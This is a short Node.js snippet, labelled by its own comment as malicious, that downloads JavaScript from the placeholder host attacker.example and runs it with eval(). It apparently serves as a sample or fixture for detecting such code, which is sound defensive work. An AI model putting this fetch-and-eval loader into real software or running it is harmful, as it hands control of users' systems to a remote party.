// Malicious: downloads JavaScript over HTTPS and eval()s it.
const https = require('https');
https.get('https://attacker.example/payload.js', (res) => {
  let body = '';
  res.on('data', (chunk) => { body += chunk; });
  res.on('end', () => eval(body));
});
